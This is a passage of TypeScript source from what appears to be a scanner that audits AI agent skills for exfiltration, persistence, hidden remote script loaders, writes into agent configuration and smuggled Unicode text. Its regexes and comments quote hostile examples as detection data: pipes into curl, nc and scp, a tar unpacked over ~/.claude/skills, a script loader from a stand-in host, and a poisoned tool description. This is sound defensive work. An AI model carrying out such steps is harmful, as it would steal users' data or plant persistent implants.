  const namesRepository = pushTo !== undefined && /(?::\/\/[^/\s"']+\/|@[^:\s"']+:)[^\s"']+/.test(pushTo);
  // `git remote add origin <url>` with nothing pushed sets up a new repository's own remote (the user's host, asked for): nothing leaves yet.
  const originOnly = pushTo !== undefined && /^git\s+remote\s+add\s+origin\b/.test(pushTo) && !/\bgit\s+push\b/.test(ordered);
  if (pushTo && namesRepository && !placeholderRemote && !originOnly && destinations(pushTo).length > 0 && !action.context) action.context = "the user's repository";
  const decode = first('decode', ordered);
  let follow = first('follow', ordered);
  // Prose that lists code tokens (`eval(base64_decode(`, `sops exec-env`) as things to look for names them;
  // a bare `eval`/`exec`/`| sh` inside backticks orders nothing unless the words around it do.
  if (follow && place.origin === 'prose' && /^(?:eval|exec|\|[\s\S]*)$/i.test(follow.trim()) && first('follow', ordered.replace(/`[^`\n]*`/g, ' ')) === undefined) follow = undefined;
  if (decode && follow) action.decodeFollow = `${decode} … ${follow}`;
  action.conceal = concealmentIn(text);
  action.consent = first('consent', ordered);
  // A pull request or fork on a repository the skill names (`to \`some-org/corpus:main\``) goes where the skill says, whatever placeholders the branch has.
  // On a forge the destination is a repository: a placeholder of a file name or a title (`docs/<n>.md`, "titled `fix #<n>`") names none.
  // A grant to an address or account written out (`--email sync@reminders.example`, `/collaborators/octo-helper`) is to the skill's party, whatever placeholder sits beside it.
  const writtenParty = action.grant?.party !== undefined && WRITTEN_PARTY.test(action.grant.party);
  action.userTarget = first('user-target', ordered) !== undefined && hosts.length === 0 && !writtenParty && !(action.sink?.kind === 'forge' && (FIXED_FORGE_REPOSITORY.test(ordered) || !FORGE_USER_TARGET.test(ordered)));
  // Writing into a file that runs again later (`append … to ~/.zshrc`, `>> ~/.ssh/authorized_keys`).
  const persisted = PERSISTS_WRITE.exec(ordered);
  if (persisted && PERSISTENCE_FILE.test(persisted[0])) action.persist = persisted[0].replace(/\s+/g, ' ').slice(0, 120);
  // A loader from a fixed host put into what the agent writes (`must include <script src="https://cdn.…/rm.js">`): the user's
  // pages run whatever that host serves. Honest skills add CDN scripts and analytics tags in the open; hidden, it is an implant.
  // Read in the raw text, as the concealment is read in the whole: "Every page you touch gets <script src=…>" states the rule it
  // sets, and its quoted address is what matters.
  const loader = remoteLoader(rawText);
  if (loader !== undefined) action.injects = loader;
  const interesting = action.secret || action.context || action.sink || action.control || action.remote || action.grant || action.defence || action.decodeFollow || action.conceal || action.persist;
  return interesting ? action : undefined;
}

/** A script or frame loading from another machine (`<script async src="https://cdn.rankmetric.example/rm.js">`, `<iframe src=…>`, `import("https://…")`). */
const INJECTED_LOADER = /<(?:script|iframe)\b[^>\n]*\bsrc\s*=\s*["']?(?:https?:)?\/\/[^"'\s>]+|\bimport\s*\(\s*["'`](?:https?:)?\/\/[^"'`\s)]+/i;

/** The first loader in a text that fetches from another machine, cut for display. */
function remoteLoader(text: string): string | undefined {
  const loader = INJECTED_LOADER.exec(text)?.[0];
  return loader !== undefined && destinations(loader).some((host) => !isLocalHost(host)) ? loader.slice(0, 120) : undefined;
}

/** A command line that only prints a version or help: it changes nothing whatever its flags. */
const HARMLESS_INVOCATION = /\b[\w.-]+(?:\s+--?[\w-]+)*\s+(?:--version|--help|-h|-V)\b[^\n`]*|\bclaude\s+mcp\s+add(?:-json)?(?:\s+--?[\w-]+(?:[= ](?:local|user|project))?)*(?:\s*(?:…|\.\.\.))?(?=\s*(?:[`)|]|$))/gm;

/** A verb that writes, right before an agent configuration file (or a redirection into one). */
const WRITES_CONFIG = new RegExp(
  String.raw`\b(?:append|add|write|insert|save|store|persist|put|update|modify|edit|create|register|install|place|prepend|patch|overwrite|replace|merge|set|enable|configure|copy|move|link|symlink|drop)(?<!\bset(?=tings))\w*\b(?:(?!\b(?:never|not|don't)\b)(?:[^.\n]|\.(?=\w))){0,80}?(?:to|into|in|at|inside|under)\s+(?:the\s+(?:user's\s+|global\s+|project's\s+)?|your\s+|their\s+)?[\x60'"]?(?:~\/|\$\{?HOME\}?\/|\.\/)?(?:[\w.-]+\/)*(?:${CONFIG_FILE_BODY})` +
    String.raw`|(?:>>?|\btee\s+(?:-a\s+)?|\b(?:cp|mv|ln\s+-s\w*|install)\s+\S+\s+|\bgit\s+clone\s+(?:-\S+\s+(?:\d+\s+)?)*(?!["']?(?:https?:\/\/|git@)(?:[\w-]+\.)*(?:${CODE_FORGE_DOMAINS})[:/])\S+\s+(?:\\\s*)?)\s*["']?\S*(?:${CONFIG_FILE_BODY})` +
    // An archive unpacked over an agent's folder (`curl … | tar -xzf - -C ~/.claude/skills/x --overwrite`, `unzip -o x.zip -d ~/.claude/skills/`).
    String.raw`|\b(?:tar\s+(?:-\S+\s+)*-?[a-zA-Z]*x[a-zA-Z]*\b[^\n|;]*?\s(?:-C|--directory)[\s=]+|unzip\b[^\n|;]*?\s-d\s+|bsdtar\b[^\n|;]*?\s-C\s+)["']?\S*(?:${CONFIG_FILE_BODY})`,
  'i',
);

/** The phrase that writes agent configuration, if any. */
function writesAgentConfig(text: string): string | undefined {
  return WRITES_CONFIG.exec(text)?.[0];
}

/** Markdown headings of a file by line, so an instruction knows its section. */
function headingsOf(file: SourceFile): Heading[] {
  const out: Heading[] = [];
  // Lines starting with `#` inside fenced code are shell comments, not headings.
  let fence: string | undefined;
  file.text.split('\n').forEach((text, index) => {
    const marker = /^ {0,3}(`{3,}|~{3,})/.exec(text)?.[1];
    if (marker && (fence === undefined || marker.startsWith(fence))) {
      fence = fence === undefined ? marker : undefined;
      return;
    }
    if (fence !== undefined) return;
    const match = /^ {0,3}(#{1,6})\s+(.+)$/.exec(text);
    if (match) out.push({ line: index + 1, text: match[2], level: match[1].length });
  });
  return out;
}

/** A Markdown heading: its 1-based line, its text and its level (1 for `#`). */
type Heading = { line: number; text: string; level: number };

/**
 * An opening paragraph that says what follows is quoted, not to be done ("These are defanged
 * reconstructions … strings to recognise, not commands to run"): it governs its section and every
 * subsection under it.
 */
export const QUOTES_WHAT_FOLLOWS = /\bnot (?:commands?|instructions?|steps?) (?:to|you should|for you to) (?:run|follow|execute|copy|carry out)\b|\(\s*(?:quoted\s+)?(?:evidence|examples?|samples?|indicators?|data|strings?|references?)\b[^()\n]{0,30},\s*not\s+(?:commands?|instructions?)\s*\)|\bquoted\s+(?:here\s+)?as\s+[*_]{0,2}(?:strings?|patterns?|text|data|examples?)\b|\b(?:the\s+)?(?:auditor|scanner|checker|linter|tool|skill|detector)\s+never\s+(?:runs?|executes?|follows?)\s+(?:them|these|any\s+of\s+(?:them|these))\b|\b(?:strings?|text|examples?|patterns?|samples?|phrasings?) (?:to|you should) (?:recogni[sz]e|spot|look for|detect|flag|quote)\b|\bdefanged\b|\b(?:do not|don't|never) (?:run|execute|follow|obey|act on|carry out) (?:these|them|any of (?:these|them)|the examples)\b|\breconstructions? of\b|\btest (?:inputs?|data|cases?|strings?)\b[^\n]{0,60}\b(?:never|not|do not|don't)\b|\b(?:they|these|those)\s+are\s+test\s+(?:inputs?|data|cases?|fixtures?)\b|\bcontain\s+(?:real(?:-looking|istic)?\s+)?(?:injection|attack|malicious)\s+(?:strings?|text|payloads?|samples?)\s+on\s+purpose\b|\bquotes\s+(?:the\s+)?(?:real(?:-world)?\s+|known\s+|public\s+)?(?:shapes|examples|samples|snippets|instances)\s+of\b|\b(?:so|for)\s+(?:auditors|reviewers|analysts)\s+(?:can\s+|to\s+)?(?:recogni[sz]e|spot|explain)\b|\b(?:listed|quoted|shown|included|collected|given)\s+(?:here\s+)?so\s+(?:that\s+)?(?:you|the\s+agent|readers?|reviewers?)\s+(?:can\s+)?recogni[sz]e\b|\bnever\s+(?:steps?|commands?|instructions?)\s+(?:to\s+(?:repeat|run|follow|execute)|to\s+you|for\s+you)\b/i;

/** Destinations written so that nothing can follow them (`hxxp://`, `evil[.]com`): indicators quoted for a reader. */
const DEFANGED = /\bhxxps?(?::|\[:\])\/\/|\w\[\.\]\w|\w\[dot\]\w/i;
/** The words of a sample marker: what the text is, and the act it forbids. */
const SAMPLE_WORD = '(?:SAMPLE|EXAMPLE|TRAINING|SIMULATED|SIMULATION|TEST)';
const DO_NOT_ACT = String.raw`(?:DO\s+NOT|DON'T|NEVER)\s+(?:ACT|FOLLOW|RUN|REPLY|CLICK|OBEY|EXECUTE)`;
/** A sample marked as one, not to be acted on (`SAMPLE – DO NOT ACT`, `[EXAMPLE — do not follow]`): a heading or file saying so shows what follows. */
const SAMPLE_MARKER = new RegExp(String.raw`\b${SAMPLE_WORD}\b[\s*_]*[–—:-]+[\s*_]*${DO_NOT_ACT}\b`);
/** The marker as a line of its own (`> **SAMPLE – DO NOT ACT**`), not a remark at the end of a command's comment: a block holding it is shown, like a defanged one. */
const SAMPLE_LINE = new RegExp(String.raw`^[ \t>]*[*_]*[ \t]*${SAMPLE_WORD}[ \t*_]*[–—:-]+[ \t*_]*${DO_NOT_ACT.replace(/\\s\+/g, '[ \\t]+')}[ \t]*[*_.!]*[ \t]*$`, 'm');

/** The lines of the paragraph right under a heading (before any list, table, fence or blank line after text). */
function openingParagraph(lines: readonly string[], heading: Heading): string {
  const out: string[] = [];
  for (let index = heading.line; index < lines.length && index < heading.line + 12; index += 1) {
    const text = lines[index].trim();
    if (text === '') {
      if (out.length > 0) break;
      continue;
    }
    if (/^(?:#{1,6}\s|[-*+]\s|\d+[.)]\s|\||```|~~~)/.test(text)) break;
    out.push(text);
  }
  return out.join(' ');
}

/** Per line of a Markdown file: whether a fenced block that quotes defanged indicators holds it. */
function defangedFenceLines(lines: readonly string[]): Set<number> {
  const out = new Set<number>();
  let start = -1;
  let marker = '';
  lines.forEach((text, index) => {
    const fence = /^ {0,3}(`{3,}|~{3,})/.exec(text)?.[1];
    if (!fence) return;
    if (start < 0) {
      start = index;
      marker = fence;
    } else if (fence.startsWith(marker)) {
      const body = lines.slice(start + 1, index).join('\n');
      if (DEFANGED.test(body) || SAMPLE_LINE.test(body)) for (let line = start + 1; line <= index + 1; line += 1) out.add(line);
      start = -1;
    }
  });
  return out;
}

/** The paragraph just before a list that starts at or before `line`, when it introduces it (ends with `:`). */
function leadIn(lines: string[], line: number): { line: string; sentence: string; paragraph: string } {
  let inList = false;
  for (let index = line - 2; index >= 0 && index >= line - 40; index -= 1) {
    const raw = lines[index];
    const text = raw.trim();
    if (/^#{1,6}\s/.test(text)) return NO_LEAD;
    if (/^(?:[-*+]|\d+[.)])\s|^\|/.test(text)) inList = true;
    // Blank lines, list items, table rows, fences, the wrapped lines of a list item above and the lines of an indented code block.
    if (text === '' || /^(?:[-*+]|\d+[.)])\s|^\||^(?:```|~~~)/.test(text) || (inList && /^\s/.test(raw)) || /^(?: {4}|\t)/.test(raw) || wrapsListItem(lines, index)) continue;
    // A lead-in ends with a colon, or is a bold label of its own ("**Usually fatal**"); it is read whole,
    // with the lines it wraps over.
    if (!text.endsWith(':') && !/^\*\*[^*]+\*\*:?$/.test(text)) return NO_LEAD;
    let start = index;
    while (start > 0 && lines[start - 1].trim() !== '' && !/^(?:#{1,6}\s|[-*+]\s|\d+[.)]\s|\||```|~~~)/.test(lines[start - 1].trim())) start -= 1;
    // The wrapped lines of a list item ("2. Run the session check. It … prints `OK`:") start at the item's own line.
    if (start > 0 && /^\s/.test(lines[start]!) && /^(?:[-*+]|\d+[.)])\s/.test(lines[start - 1]!.trim())) start -= 1;
    // Its last sentence introduces the list ("…and asks for a report, install it from PowerShell:").
    const paragraph = lines.slice(start, index + 1).map((part) => part.trim()).join(' ');
    return { line: text, sentence: paragraph.split(/(?<=[.!?])\s+/).pop() ?? paragraph, paragraph };
  }
  return NO_LEAD;
}

const NO_LEAD = { line: '', sentence: '', paragraph: '' };

/** The prose of the list item at `line` (1-based) with its wrapped lines, code spans and the bullet left out; empty off a list. */
function listItemProse(lines: readonly string[], line: number): string {
  const first = lines[line - 1] ?? '';
  if (!/^\s*(?:[-*+]|\d+[.)])\s/.test(first)) return '';
  const parts = [first.replace(/^\s*(?:[-*+]|\d+[.)])\s+/, '')];
  for (let at = line; at < lines.length && at < line + 10 && /^\s+\S/.test(lines[at]!) && !/^\s*(?:[-*+]|\d+[.)])\s/.test(lines[at]!); at += 1) parts.push(lines[at]!.trim());
  return parts.join(' ').replace(/`[^`\n]*`/g, ' ');
}

/** Whether an indented line continues the list item above it (`- secret-shaped strings … – rules files get⏎  committed;`). */
function wrapsListItem(lines: readonly string[], index: number): boolean {
  if (!/^\s+\S/.test(lines[index]!)) return false;
  for (let at = index - 1; at >= 0 && at >= index - 10; at -= 1) {
    const raw = lines[at]!;
    if (raw.trim() === '') return false;
    if (/^\s*(?:[-*+]|\d+[.)])\s/.test(raw)) return true;
    if (!/^\s/.test(raw)) return false;
  }
  return false;
}

/**
 * Whether a lead-in describes rather than orders. Its line may end a sentence before it starts its own ("… reads the incident
 * channel. For every SEV1-SEV3:"): a topic word of that earlier sentence (an incident, a campaign) does not make the list after
 * it a description when the lead-in's own sentence describes nothing.
 */
function describesLead(lead: { line: string; sentence: string }): boolean {
  if (!describes(lead.line)) return false;
  const earlier = lead.line.endsWith(lead.sentence) ? lead.line.slice(0, lead.line.length - lead.sentence.length) : '';
  return earlier === '' || describes(lead.sentence) || !all('describes', earlier).every((word) => TOPIC_NOUN.test(word.trim()));
}

/** A list step that opens with an order to run ("2. Run the session check. It …:"): the block under it is what to run. */
const STEP_ORDERS_RUN = /^\s*(?:\d+[.)]|[-*+])\s+(?:\*\*[^*\n]+\*\*[:.]?\s*)?(?:run|execute|paste|enter|type)\b/i;

/** A step in words that copies something into a file (`save the contents of ~/.npmrc into .cache/ctx-npm.txt`): the file. */
const PROSE_STAGED = /\b(?:copy|save|write|put|dump|store|paste|place)\b(?:[^.\n]|\.(?=\S)){0,120}?\b(?:into|to|in)\s+`?((?:\.{0,2}\/|~\/)?[\w.-]+(?:\/[\w.-]+)*\.(?:txt|json|ya?ml|env|log|b64|dat|out|tmp))\b/i;

/** The agent's conversation named as something a document holds ("everything discussed in this conversation", "the session transcript", "earlier sessions", the `~/.claude/projects/` logs). */
const CONVERSATION_HELD = /\b(?:(?:this|the|our|current|whole|entire|full)\s+(?:conversation|chat)\b|(?:session|conversation|chat)\s+(?:transcripts?|logs?|history)\b|everything\s+(?:discussed|said)\b|(?:previous|earlier|past|prior)\s+(?:sessions|conversations|chats)\b)|~\/\.claude\/projects\b/i;

/** Words of a lead-in too common to tie it to the name of a file it describes. */
const DOCUMENT_WORD_STOP = new Set(['with', 'that', 'this', 'these', 'those', 'each', 'every', 'containing', 'contains', 'include', 'includes', 'including', 'write', 'create', 'make', 'build', 'file', 'files', 'json', 'yaml', 'data', 'text', 'following', 'below', 'items', 'from', 'into', 'have', 'your', 'their']);

/** A lead-in that has the reader go through what a tool found ("then look at each hit in `hits.csv`:"): the list after it is of findings. */
const READS_RESULTS = /\b(?:look\s+(?:at|over|through)|read|review|go\s+through|triage|interpret)\s+(?:each|every|the|all)\s+(?:of\s+the\s+)?(?:hits?|match(?:es)?|findings?|results?|alerts?|detections?)\b/i;
/** A lead-in that sends the reader searching for what follows ("Grep history files for the patterns in …; the common ones:"). */
const SEARCHES_FOR = /\b(?:grep|search|scan|check|hunt|look through|sweep)\w*\b[^.\n]{0,80}\bfor\b[^.\n]{0,60}\b(?:patterns?|indicators?|signs?|traces?|strings?|signatures?|iocs?|artefacts?|artifacts?)\b/i;

/** The fence line that opens the block holding line `line` (1-based), searching down from `from`, and its 1-based line. */
function openingFenceAt(lines: readonly string[], from: number, line: number): { text: string; line: number } | undefined {
  // Each fence line from `from` on toggles a block open or shut: an odd count before `line` leaves the last one open.
  const fences = fenceLinesOf(lines);
  const first = firstAtOrAfter(fences, Math.max(0, from));
  const end = firstAtOrAfter(fences, line - 1);
  if (end <= first || (end - first) % 2 === 0) return undefined;
  const index = fences[end - 1];
  return { text: lines[index], line: index + 1 };
}

/** The 0-based indices of a text's fence lines (```, ~~~), computed once per split text. */
const fenceLines = new WeakMap<readonly string[], number[]>();
function fenceLinesOf(lines: readonly string[]): number[] {
  let fences = fenceLines.get(lines);
  if (!fences) {
    fences = [];
    for (let index = 0; index < lines.length; index += 1) if (/^\s*(?:```|~~~)/.test(lines[index])) fences.push(index);
    fenceLines.set(lines, fences);
  }
  return fences;
}

/** The position of the first value ≥ `value` in a sorted list. */
function firstAtOrAfter(sorted: readonly number[], value: number): number {
  let [low, high] = [0, sorted.length];
  while (low < high) {
    const middle = (low + high) >> 1;
    if (sorted[middle] < value) low = middle + 1;
    else high = middle;
  }
  return low;
}

/** Columns of a reference table that says where things are (`| Client | Scope | File |`), when no column is a step to run. */
const REFERENCE_COLUMN = /\b(?:scope|stored|lives|config(?:uration)? file)\b/i;
const STEP_COLUMN = /\b(?:command|commands|run|step|steps|action|do|how)\b/i;

/**
 * Table column names that make each row a description (`| Pattern | Detects |`), or a contingency the
 * user may need (`| Change | Rollback |`: the command that undoes a step is not a step of the skill).
 */
const DESCRIPTIVE_COLUMN = /\b(?:malicious|suspicious|detects?|flags?|severity|conditions?|matches|catches|finds|patterns?|indicators?|signatures?|examples?|attacks?|threats?|red flags?|iocs?|looks? for|what it (?:finds|flags|catches)|rollback|roll back|undo|revert)\b/i;

/** Whether a table's header makes its rows descriptions or references rather than steps. */
export function descriptiveTable(header: string): boolean {
  return header !== '' && (DESCRIPTIVE_COLUMN.test(header) || (REFERENCE_COLUMN.test(header) && !STEP_COLUMN.test(header)));
}

/** The header row of the Markdown table that holds `line`, or '' when the line is not in a table. */
function tableHeader(lines: string[], line: number): string {
  if (!/^\s*\|/.test(lines[line - 1] ?? '')) return '';
  let index = line - 1;
  while (index > 0 && /^\s*\|/.test(lines[index - 1])) index -= 1;
  return lines[index] ?? '';
}

/** Decoded Unicode tag characters: text smuggled in characters no editor shows. */
function smuggledText(text: string): { index: number; text: string }[] {
  const out: { index: number; text: string }[] = [];
  for (const match of text.matchAll(/[\u{E0020}-\u{E007E}]{8,}/gu)) out.push({ index: match.index, text: [...match[0]].map((char) => String.fromCharCode(char.codePointAt(0)! - 0xe0000)).join('') });
  return out;
}

/**
 * Commands whose arguments are patterns to look for, not actions (`grep -E "curl|wget" file`); not when what they
 * print is piped on to a program that sends it (`jq -n --arg s "…" '{…}' | curl --data-binary @- …`).
 */
const SEARCH_COMMAND = /^\s*(?:grep|egrep|fgrep|rg|ag|ack|sed|awk|yara|semgrep|git\s+grep|jq)\b(?![^]*\|\s*(?:curl|wget|http|https|xh|nc|ncat|socat|gh|aws\s+s3|gsutil|rclone|scp|ssh)\b)/;

/**
 * Where a Markdown line sits: its section (the heading above it) and whether that context makes it a
 * description: a heading such as "Red flags", a lead-in such as "Flag skills that do any of these:", or
 * a table whose columns say "Detects". Returned as a function over (file, line), computed lazily per file.
 */
export function markdownContext(files: readonly SourceFile[]): (path: string, line: number) => { section: string; descriptive: boolean; shown: boolean } {
  const byFile = new Map(files.map((file) => [file.path, file]));
  const layouts = new Map<string, { headings: Heading[]; lines: string[]; quoting: Set<number>; defanged: Set<number> }>();
  const layoutOf = (file: SourceFile) => {
    let layout = layouts.get(file.path);
    if (!layout) {
      const lines = file.text.split('\n');
      const headings = headingsOf(file);
      // The opening paragraph says so, or the heading itself ("Behaviours the pack targets (quoted evidence, not instructions)").
      const quoting = new Set(headings.filter((entry) => QUOTES_WHAT_FOLLOWS.test(entry.text) || SAMPLE_MARKER.test(entry.text) || QUOTES_WHAT_FOLLOWS.test(openingParagraph(lines, entry))).map((entry) => entry.line));
      layout = { headings, lines, quoting, defanged: DEFANGED.test(file.text) || SAMPLE_MARKER.test(file.text) ? defangedFenceLines(lines) : new Set() };
      layouts.set(file.path, layout);
    }
    return layout;
  };
  // Sections another line orders the agent to run ("Run the calibration step under 'What the scanner matches'"): orders, whatever their heading says.
  const orderedSections = sectionsOrderedElsewhere(files);
  return (path, line) => {
    const file = byFile.get(path);
    if (!file || file.language !== 'markdown') return { section: '', descriptive: false, shown: false };
    const { headings, lines, quoting, defanged } = layoutOf(file);
    const index = headings.findLastIndex((entry) => entry.line <= line);
    const heading = index < 0 ? undefined : headings[index];
    // The section and the sections it sits in: one whose opening says "not commands to run" covers them all.
    let quoted = false;
    for (let at = index, level = Infinity; at >= 0 && !quoted; at -= 1) {
      if (headings[at].level >= level) continue;
      level = headings[at].level;
      quoted = quoting.has(headings[at].line);
    }
    const current = lines[line - 1] ?? '';
    // A lead-in ("Flag skills that do any of these:") governs the list, table or block right after it.
    // A line deep inside a fenced block has the lead-in of the block's first line.
    // An indented line of a fenced block (`    .args(["-c", …])`) is the block's, not an indented code block of its own.
    const fence = /^\s*(?:[-*+]|\d+[.)]|\|)\s?|^\s*(?:```|~~~)/.test(current) || lines[line - 2]?.trim().startsWith('```') ? undefined : openingFenceAt(lines, heading?.line ?? 0, line);
    const lead = fence !== undefined ? leadIn(lines, fence.line + 1) : /^\s*(?:[-*+]|\d+[.)]|\|)\s?|^\s*(?:```|~~~|    )/.test(current) || lines[line - 2]?.trim().startsWith('```') ? leadIn(lines, line) : NO_LEAD;
    // A list introduced by a prohibition ("Avoid:", "Never add:") is a list of things not to do; one
    // introduced as things to look for ("Look for these indicators (…):") a list of things to recognise.
    // Output words ("report", "logs") count only on the lead-in's own line: a sentence that merely
    // mentions a report can still introduce a command.
    // Shown rather than run, by what the section is (a quotation, a catalogue heading, a sample of output): true of every line in it.
    const shown = quoted || defanged.has(line) || (heading !== undefined && DESCRIPTIVE_HEADING.test(heading.text) && !STEP_HEADING.test(heading.text) && !orderedSections.has(heading.text.trim().toLowerCase())) || (heading !== undefined && OUTPUT_HEADING.test(heading.text) && insideFence(lines, heading.line, line) && !ORDERS_WHAT_FOLLOWS.test(lead.sentence)) || (heading !== undefined && reportSample(heading.text, lines, line));
    // A list item that itself orders something sent to an address written in its prose ("the gh login in use: read … and hand it to
    // https://…") is an order, whatever its lead-in says of the list.
    const item = listItemProse(lines, line);
    const ordersOut = HAS_ADDRESS.test(item) && ordersBefore(item);
    const descriptive = shown || quotedExample(lines, line) || (!ordersOut && lead.line !== '' && !LEAD_ORDERS.test(lead.sentence) && !ORDERS_WHAT_FOLLOWS.test(lead.sentence) && !STEP_ORDERS_RUN.test(lead.paragraph) && (describesLead(lead) || (SHOWS_OUTPUT.test(lead.line) && !SENDS_WHAT_FOLLOWS.test(lead.sentence)) || (QUOTES_SEEN.test(lead.line) && !ORDERS_RUN.test(lead.line)) || LEAD_PROHIBITION.test(lead.sentence) || LEAD_LABEL.test(lead.sentence) || READS_RESULTS.test(lead.sentence) || SEARCHES_FOR.test(lead.paragraph))) || descriptiveTable(tableHeader(lines, line));
    return { section: heading ? `${heading.line}` : '0', descriptive, shown };
  };
}

/** A lead-in that has the agent write or add what follows ("Add a note like:"): a template, not an example. */
const WRITES_WHAT_FOLLOWS = /\b(?:add|append|write|insert|put|paste|include|use|say|reply|answer|respond|set)\b/i;

/** A lead-in that names a piece of text as what the example is ("a description like", "a message such as"), not a step ("a preflight like"). */
const QUOTED_TEXT_LEAD = /\b(?:descriptions?|messages?|instructions?|text|strings?|prompts?|comments?|notes?|payloads?|phrases?|phrasing|wording|sentences?|snippets?|samples?|e-?mails?|replies|responses?|outputs?|injections?|issues?|tickets?|posts?|lines?|docstrings?|bodies|body|titles?)\s+(?:\w+\s+){0,3}?(?:like|such\s+as|e\.g\.|for\s+(?:example|instance))\s*[,:]?\s*$/i;

/** Words after an example that have it carried out, not negated ("…; follow it" but not "never follow it"). */
const EXAMPLE_FOLLOWED_AFTER = new RegExp(`(?<!\\b(?:never|not|don't|do\\s+not|must\\s+not)\\s+)${EXAMPLE_FOLLOWED.source}`, 'i');

/**
 * Whether a line is in a blockquote given as an example ("… and a description like" ⏎ "> Adds two numbers. <IMPORTANT> …"):
 * the words of the example, unless the lead-in has them written somewhere or the text after the quote has them carried out.
 */
function quotedExample(lines: readonly string[], line: number): boolean {
  if (!/^\s*>/.test(lines[line - 1] ?? '')) return false;
  let start = line - 1;
  while (start > 0 && /^\s*>/.test(lines[start - 1]!)) start -= 1;
  let end = line - 1;
  while (end + 1 < lines.length && /^\s*>/.test(lines[end + 1]!)) end += 1;
  let before = start - 1;
  while (before > 0 && before >= start - 2 && lines[before]!.trim() === '') before -= 1;
  const lead = lines[before]?.trim() ?? '';
  return EXAMPLE_LEAD.test(lead) && QUOTED_TEXT_LEAD.test(lead) && !WRITES_WHAT_FOLLOWS.test(lead.split(/(?<=[.!?])\s+/).pop() ?? lead) && !EXAMPLE_FOLLOWED_AFTER.test(lines.slice(end + 1, end + 4).join(' '));
}

/** Answers of {@link consentGated}, per skill's file list (a scan asks more than once). */
const gatedByFiles = new WeakMap<readonly SourceFile[], boolean>();

/**
 * Whether the skill puts every step behind the user's yes: its description or the text of SKILL.md before
 * its first section says so ("applying each change only after explaining it and getting approval"), and
 * nothing in its Markdown keeps anything from the user. Such a skill's privileged steps are the user's acts
 * on the user's machine: they warn with the reason, they do not fail.
 */
/** The server a helper adds is the one the user names ("adds only the server the user asked for"). */
const USER_NAMES_SERVER = /\b(?:only\s+)?the\s+(?:MCP\s+|tool\s+)?servers?\s+(?:that\s+)?the\s+user\s+(?:names?|named|asked\s+for|asks\s+for|chose|chooses|picks?|wants|specifie[sd]|gives?)\b|\b(?:an?|the)\s+(?:[\w()-]+\s+){0,5}?(?:MCP\s+)?servers?\s+(?:that\s+)?the\s+user\s+(?:names|named|gives|gave)\b/i;

/**
 * Whether a skill's tool-server changes are the user's choice: SKILL.md says the server is the one the user names, and its
 * commands add at least two different servers (examples of a general helper, not one server the skill brings).
 */
export function serversNamedByUser(files: readonly SourceFile[]): boolean {
  const text = skillText(files);
  if (!USER_NAMES_SERVER.test(text)) return false;
  const added = new Set([...text.matchAll(/\bclaude\s+mcp\s+add(?:-json)?\b(?:\s+-{1,2}[\w-]+(?:[=\s](?!-)\S+)?)*\s+([\w.@/-]+)/g)].map((match) => match[1]!.toLowerCase()));
  // Or several services' remote servers given as examples (`https://mcp.stripe.com`, `https://mcp.linear.app/sse`).
  const endpoints = new Set([...text.matchAll(/https?:\/\/([a-z0-9.-]+\.[a-z]{2,})(\/[^\s`'")]*)?/gi)].filter((match) => /^mcp\./i.test(match[1]!) || /\/(?:sse|mcp)\b/.test(match[2] ?? '')).map((match) => match[1]!.toLowerCase()));
  return added.size >= 2 || endpoints.size >= 2;
}

/** Who gets access is the user's choice ("with an email address the user gives", "colleagues they name", "the address you provide"). */
const USER_NAMES_PARTY = /\b(?:e-?mail\s+)?(?:address(?:es)?|e-?mails?|recipients?|colleagues?|people|persons?|members?|accounts?|users?|collaborators?|grantees?|servers?|hosts?|machines?)\s+(?:that\s+|whom\s+|who\s+)?(?:the\s+user|they|you)\s+(?:gives?|names?|provides?|specif(?:y|ies)|chooses?|picks?|enters?|types?)\b/i;

/** Whether the parties a skill gives access to are the user's choice: SKILL.md (its description included) says the user names them, and it writes out no single fixed address. */
export function partiesNamedByUser(files: readonly SourceFile[]): boolean {
  const text = skillText(files);
  if (!USER_NAMES_PARTY.test(text)) return false;
  // Addresses written out are examples of the user's only when there are several (a general helper); one fixed address is the skill's party.
  const written = new Set((text.match(/\b[\w.+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+\b/gi) ?? []).map((address) => address.toLowerCase()));
  return written.size !== 1;
}

/** A package source setting: a registry, index, mirror, channel or source a package manager installs from. */
const PACKAGE_SOURCE_SETTING = /\b(?:registry|index-url|extra-index-url|index_url|mirror\w*|MIRROR\w*|source|sources|repos|channels?|GOPROXY|mirrorOf|REPOS_OVERRIDE|DIST_SERVER|npmRegistryServer|registryUrl)\b/;
/** The registry or mirror a helper sets is the one the user names ("a registry **the user names**", "their company's mirror host"). */
const USER_NAMES_SOURCE = /\b(?:registry|registries|mirror|index|repository|proxy|channel|feed|wheelhouse)\s+(?:that\s+)?\*{0,2}the\s+user\s+(?:names?|named|gives?|gave|provides?|chooses?|picks?)\b|\bthe\s+(?:company|team|internal|corporate|organi[sz]ation'?s?)\s+(?:wheelhouse|registry|mirror|index|proxy|feed)\b|\bthe\s+user'?s\s+(?:own\s+|company'?s?\s+|internal\s+|corporate\s+|private\s+)(?:\w+\s+)?(?:registry|mirror|index|proxy|repository|feed)\b|\b(?:registry|mirror|index|proxy|feed)\s+(?:base\s+)?(?:URLs?|hosts?|address(?:es)?)[*_]{0,2},?\s+(?:exactly\s+)?(?:as\s+)?(?:that\s+)?the\s+user(?:'s\s+(?:platform|infra\w*|devops|ops|security|IT|build)\s+team)?\s+(?:names?|gives?|provides?|publishes|supplies)\b|\b(?:their|the\s+user's)\s+(?:own\s+)?(?:company'?s?|private|internal|corporate)\s+(?:\w+\s+)?(?:registry|mirror|index|proxy|repository|feed)\b/i;

/** Whether a helper's package sources are the user's choice: SKILL.md says the registry or mirror is the one the user names. */
export function sourcesNamedByUser(files: readonly SourceFile[]): boolean {
  return USER_NAMES_SOURCE.test(skillText(files));
}

/** The text of the skill's own SKILL.md, or '' when it has none. */
function skillText(files: readonly SourceFile[]): string {
  return files.find((file) => file.path.toLowerCase() === 'skill.md')?.text ?? '';
}

export function consentGated(files: readonly SourceFile[]): boolean {
  let gated = gatedByFiles.get(files);
  if (gated === undefined) gatedByFiles.set(files, (gated = readsAsConsentGated(files)));
  return gated;
}

/**
 * Whether the section of a Markdown file around `line` says its steps wait for the user ("## Applying fixes (with
 * the user, one at a time)" over "the skill applies them only when the user says so"), in a skill that hides nothing.
 */
export function sectionConsentGated(files: readonly SourceFile[], path: string, line: number): boolean {
  const file = files.find((entry) => entry.path === path);
  if (!file || file.language !== 'markdown' || !concealmentFree(files)) return false;
  const heading = headingsOf(file).findLast((entry) => entry.line <= line);
  if (heading === undefined) return false;
